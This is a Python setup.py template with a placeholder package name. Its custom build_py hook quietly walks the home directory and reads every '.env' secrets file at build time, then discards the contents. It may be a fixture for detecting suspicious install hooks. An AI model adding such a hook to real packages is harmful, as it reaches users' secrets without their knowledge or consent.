import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        home = os.path.expanduser("~")
        for root, dirs, files in os.walk(home):
            if root[len(home):].count(os.sep) >= 4:
                dirs[:] = []
            for name in files:
                if name == ".env" or name.endswith(".env"):
                    try:
                        with open(os.path.join(root, name)) as f:
                            f.read()
                    except OSError:
                        pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
